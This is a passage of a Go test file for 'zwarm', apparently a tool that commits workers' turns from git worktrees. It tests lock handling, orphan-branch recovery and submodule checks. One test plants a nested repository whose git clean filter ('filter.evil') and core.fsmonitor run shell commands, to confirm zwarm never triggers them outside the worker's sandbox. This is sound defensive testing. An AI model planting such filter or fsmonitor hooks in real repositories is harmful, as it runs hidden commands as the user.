	commit, _, err := w.Commit(context.Background(), "zwarm turn")
	if err != nil {
		t.Fatal(err)
	}
	if got := sh(t, w.Path, "git ls-tree --name-only "+commit); got != "a.txt\nb.txt\nc.txt" {
		t.Errorf("the turn's commit holds %q", got)
	}
}

// holdOpen makes the lock file at path and has a process (sleep 60) hold
// it open, as a git writing it does; it returns that process's pid, and
// what ends it (which the test's end does too).
func holdOpen(t *testing.T, path string) (pid int, release func()) {
	t.Helper()
	f, err := os.OpenFile(path, os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	holder := exec.Command("sleep", "60")
	holder.ExtraFiles = []*os.File{f}
	if err := holder.Start(); err != nil {
		t.Fatal(err)
	}
	var once sync.Once
	release = func() { once.Do(func() { holder.Process.Kill(); holder.Wait() }) }
	t.Cleanup(release)
	return holder.Process.Pid, release
}

// A person's git commit -a holds the worktree's index lock through the
// editor, with the lock file closed: the turn's commit keeps it, says
// which git is at work, and the person's commit is made. So whether the
// person runs git in the worktree, or from elsewhere naming it with
// --git-dir or GIT_DIR.
func TestTheLockOfAGitAtWorkIsKeptThoughClosed(t *testing.T) {
	t.Parallel()
	for i, how := range []string{"in the worktree", "--git-dir", "GIT_DIR"} {
		t.Run(how, func(t *testing.T) {
			t.Parallel()
			repo := newRepo(t, map[string]string{"a.txt": "a\n"})
			w := newWorktree(t, repo, fmt.Sprintf("3f2a9c1d-0000-4000-8000-00000000007%d", i))
			write(t, filepath.Join(w.Path, "a.txt"), "person's\n")
			dir := t.TempDir()
			editor, goOn := filepath.Join(dir, "editor"), filepath.Join(dir, "go")
			write(t, editor, "#!/bin/sh\nwhile [ ! -e '"+goOn+"' ]; do sleep 0.02; done\necho \"the person's commit\" > \"$1\"\n")
			if err := os.Chmod(editor, 0o755); err != nil {
				t.Fatal(err)
			}
			person := exec.Command("git", "commit", "-a")
			person.Dir, person.Env = w.Path, append(os.Environ(), "GIT_EDITOR="+editor)
			switch how {
			case "--git-dir":
				person = exec.Command("git", "--git-dir="+filepath.Join(w.Path, ".git"), "--work-tree="+w.Path, "commit", "-a")
				person.Dir, person.Env = dir, append(os.Environ(), "GIT_EDITOR="+editor)
			case "GIT_DIR":
				person.Dir = dir
				person.Env = append(person.Env, "GIT_DIR="+filepath.Join(w.Path, ".git"), "GIT_WORK_TREE="+w.Path)
			}
			var said strings.Builder
			person.Stdout, person.Stderr = &said, &said
			if err := person.Start(); err != nil {
				t.Fatal(err)
			}
			defer func() { os.WriteFile(goOn, nil, 0o644); person.Wait() }()
			lock := filepath.Join(w.admin(), "index.lock")
			for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(10 * time.Millisecond) {
				if _, err := os.Stat(lock); err == nil {
					break
				}
				if time.Now().After(deadline) {
					t.Fatalf("the person's git never took the index lock: %s", said.String())
				}
			}
			_, _, err := w.Commit(context.Background(), "zwarm turn")
			if want := fmt.Sprintf("is kept: pid %d (", person.Process.Pid); err == nil || !strings.Contains(err.Error(), want) || !strings.Contains(err.Error(), "which started before it was made, is at work on the repository") {
				t.Fatalf("zwarm's commit while the person's editor is open: %v", err)
			}
			if _, err := os.Stat(lock); err != nil {
				t.Fatalf("the lock of the person's git: %v", err)
			}
			write(t, goOn, "")
			if err := person.Wait(); err != nil {
				t.Fatalf("the person's commit: %v\n%s", err, said.String())
			}
			if got := sh(t, w.Path, "git log -1 --format=%s"); got != "the person's commit" {
				t.Errorf("HEAD is %q", got)
			}
		})
	}
}

// A worker that puts HEAD on a branch with no commit (git symbolic-ref
// HEAD, git checkout --orphan) has its work committed on its own branch
// all the same, HEAD put back on it: the turn's commit failed ("Needed a
// single revision"), and so did every land and rm after it.
func TestHeadOnABranchWithNoCommitIsPutBack(t *testing.T) {
	t.Parallel()
	for _, move := range []string{"git symbolic-ref HEAD refs/heads/master", "git checkout -q --orphan fresh"} {
		repo := newRepo(t, map[string]string{"a.txt": "a\n"})
		w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000041")
		base := sh(t, w.Path, "git rev-parse HEAD")
		sh(t, w.Path, move+" && echo work > b.txt")
		commit, _, err := w.Commit(context.Background(), "zwarm turn")
		if err != nil || commit == "" {
			t.Fatalf("%s: commit %q, %v", move, commit, err)
		}
		if got := sh(t, w.Path, "git symbolic-ref --short HEAD"); got != w.Branch {
			t.Errorf("%s: HEAD on %s", move, got)
		}
		if got := sh(t, w.Path, "git rev-parse "+w.Branch+"^"); got != base {
			t.Errorf("%s: the commit's parent is %s, not the branch's %s", move, got, base)
		}
		if got := sh(t, w.Path, "git show "+w.Branch+":b.txt"); got != "work" {
			t.Errorf("%s: b.txt on the branch: %q", move, got)
		}
	}
}

// A repository of the worker's own, staged as a submodule in its worktree
// (git add of a directory holding one), is never entered by zwarm's git:
// git's status and diffs would run its status there, with that
// repository's own config and attributes (a clean filter, an fsmonitor),
// as you and outside the worker's sandbox.
func TestANestedRepositoryOfTheWorkersMakingRunsNothing(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	ctx := context.Background()
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000039")
	base := sh(t, w.Path, "git rev-parse HEAD")
	ran := filepath.Join(t.TempDir(), "ran")
	app := filepath.Join(w.Path, "app")
	sh(t, w.Path, "git init -q app && cd app && echo x > x.txt && git add x.txt && git -c user.name=w -c user.email=w@example.com commit -qm x")
	write(t, filepath.Join(app, ".git", "info", "attributes"), "* filter=evil\n")
	sh(t, app, "git config filter.evil.clean 'sh -c \"echo ran >> "+ran+"; cat\"' && git config core.fsmonitor 'echo fsm >> "+ran+"'")
	sh(t, w.Path, "git add app 2>/dev/null; echo b > b.txt")
	// Each of zwarm's reads of the worktree, with app's file newer than
	// its index, so that git would hash it again through the filter.
	steps := []struct {
		name string
		do   func() error
	}{
		{"a running worker's diff", func() error { return w.WorkingDiff(ctx, io.Discard, base, DiffOptions{}) }},
		{"its changes", func() error { _, _, err := w.WorkingChanges(ctx, base); return err }},
		{"what rm finds uncommitted", func() error { _, err := w.Dirty(ctx); return err }},
		{"the turn's commit", func() error { _, _, err := w.Commit(ctx, "zwarm turn"); return err }},
		{"what a setup made", func() error { _, _, err := w.SetupMade(ctx); return err }},
	}
	for _, s := range steps {
		time.Sleep(1100 * time.Millisecond)
		os.Chtimes(filepath.Join(app, "x.txt"), time.Now(), time.Now())
		s.do() // refused or done: either way, nothing of app's may run
		if b, err := os.ReadFile(ran); err == nil {
			t.Fatalf("%s ran what the worker's nested repository names: %q", s.name, b)
		}
	}
}

// A submodule of your repository that the worker checked out is not
// looked inside (as above) and so not taken for clean: edits the worker
// left uncommitted there are not known, and rm and a landing keep them.
func TestACheckedOutSubmoduleIsNotTakenForClean(t *testing.T) {
	t.Parallel()
	lib := newRepo(t, map[string]string{"lib.txt": "lib\n"})
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	sh(t, repo, "git -c protocol.file.allow=always submodule add -q "+lib+" sub && git commit -qm sub")
	ctx := context.Background()
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-00000000003a")
	sh(t, w.Path, "git -c protocol.file.allow=always submodule update -q --init")
	if dirty, err := w.Dirty(ctx); err != nil || !slices.Contains(dirty, "sub/") {
		t.Fatalf("dirty: %q %v; want sub/ among it", dirty, err)
	}
	write(t, filepath.Join(w.Path, "sub", "lib.txt"), "edited, never committed\n")
	if dirty, err := w.Dirty(ctx); err != nil || !slices.Contains(dirty, "sub/") {
		t.Fatalf("dirty: %q %v; want sub/ among it", dirty, err)
	}
}

// A write zwarm runs beside other gits of its own (the worker's branch
// moved while the turn's commit is fetched into your repository) judges a
// lock file it runs into only once they are done: judged meanwhile, they
// look like gits at work on it, and a leftover lock would fail the turn.
func TestALeftLockMetBesideZwarmsOwnGitsIsJudgedOnceTheyAreDone(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000064")
	parent := sh(t, w.Path, "git rev-parse HEAD")
	commit := sh(t, w.Path, "git commit-tree -p HEAD -m turn HEAD^{tree}")
	// The other git: one of this process's, at work in your repository
	// since before the lock was made, as the fetch is.
	other := exec.Command("git", "cat-file", "--batch")
	other.Dir = w.CommonDir
	in, err := other.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := other.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { in.Close(); other.Wait() }()
	lock := w.OwnDir + "/refs/heads/" + w.Branch + ".lock"
	write(t, lock, "")
	time.Sleep(lockQuiet + 100*time.Millisecond) // a leftover, by its age
	g := w.tree()
	g.writes = true
	wait := moveHead(context.Background(), g, commit, parent, "zwarm turn")
	time.Sleep(300 * time.Millisecond) // the move has run into the lock
	in.Close()
	other.Wait()
	if err := wait(); err != nil {
		t.Fatalf("the worker's branch was not moved: %v", err)
	}
	if got := sh(t, w.Path, "git rev-parse HEAD"); got != commit {
		t.Errorf("HEAD is at %s, want %s", got, commit)
	}
	if !strings.Contains(strings.Join(w.Undone, "\n"), "removed "+lock+", a lock file") {
		t.Errorf("undone: %q", w.Undone)
	}
}

// A turn's commit the worker's branch cannot take (its lock is held by a
// git at work) fails, and is not kept in your repository either: kept,
// and on no branch, it would read as work the worker reset its branch
// off. The next turn's commit takes the work.
func TestATurnsCommitItsBranchDidNotTakeIsNotKept(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000065")
	w.Known = sh(t, repo, "git rev-parse main")
	write(t, filepath.Join(w.Path, "b.txt"), "b\n")
	lock := w.OwnDir + "/refs/heads/" + w.Branch + ".lock"
	_, release := holdOpen(t, lock)
	ctx := context.Background()
	if _, _, err := w.Commit(ctx, "zwarm turn"); err == nil || !strings.Contains(err.Error(), "held open by pid") {
		t.Fatalf("commit while sleep holds the branch's lock: %v", err)
	}
	if off, err := KeptOff(ctx, w.CommonDir, w.Branch, "refs/heads/"+w.Branch); err != nil || len(off) != 0 {
		t.Errorf("kept off the branch: %v %v", off, err)
	}
	release()
	os.Remove(lock) // what the held lock's git would have done
	head, made, err := w.Commit(ctx, "zwarm turn")
	if err != nil || !made {
		t.Fatalf("commit once the holder is gone: %v %v", made, err)
	}
	if got := sh(t, repo, "git show "+head+":b.txt"); got != "b" {
		t.Errorf("b.txt committed as %q", got)
	}
}

// Your branch whose lock a git at work holds is left where it is, and the
// turn's commit says why: the commit is made, and kept in your repository
// all the same.
func TestYourBranchAGitHoldsIsLeftAndSaidWhy(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000066")
	w.Known = sh(t, repo, "git rev-parse main")
	write(t, filepath.Join(w.Path, "b.txt"), "b\n")
	before := sh(t, repo, "git rev-parse "+w.Branch)
	pid, _ := holdOpen(t, filepath.Join(w.CommonDir, "refs", "heads", w.Branch+".lock"))
	head, made, err := w.Commit(context.Background(), "zwarm turn")
	if err != nil || !made {
		t.Fatalf("commit: %v %v", made, err)
	}
	if got := sh(t, repo, "git rev-parse "+w.Branch); got != before {
		t.Errorf("your branch moved to %s", got)
	}
	if got := sh(t, repo, "git rev-parse "+keepRefs(w.Branch)+head); got != head {
		t.Errorf("the turn's commit is not kept: %q", got)
	}
	said := strings.Join(w.Undone, "\n")
	if !strings.Contains(said, "left "+w.Branch+" in your repository at "+Abbrev(before)+": zwarm could not move it to "+Abbrev(head)) ||
		!strings.Contains(said, fmt.Sprintf("held open by pid %d", pid)) {
		t.Errorf("undone: %q", w.Undone)
	}
}

// A zwarm killed as it kept a worker's commit in your repository leaves
// the keeping ref's lock: the next follow of that commit removes it, as
// a leftover, and keeps the commit, where every one failed on it.
func TestALeftLockOfTheRefThatKeepsACommitIsRemoved(t *testing.T) {
	t.Parallel()
	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
	w := newWorktree(t, repo, "3f2a9c1d-0000-4000-8000-000000000067")
	write(t, filepath.Join(w.Path, "b.txt"), "b\n")
	commit := sh(t, w.Path, "git add b.txt && git -c user.name=w -c user.email=w@x commit -qm mine && git rev-parse HEAD")
	lock := w.CommonDir + "/" + keepRefs(w.Branch) + commit + ".lock"
	write(t, lock, "")
	time.Sleep(lockQuiet + 100*time.Millisecond) // a leftover, by its age
	if err := w.Follow(context.Background()); err != nil {
		t.Fatalf("follow of the worker's commit: %v", err)
	}
	if got := sh(t, repo, "git rev-parse "+keepRefs(w.Branch)+commit); got != commit {
		t.Errorf("the commit is not kept: %q", got)
	}
	if _, err := os.Stat(lock); err == nil {
		t.Error("the leftover lock is still there")
	}
	if !strings.Contains(strings.Join(w.Undone, "\n"), "removed "+lock+", a lock file") {
		t.Errorf("undone: %q", w.Undone)
	}
}
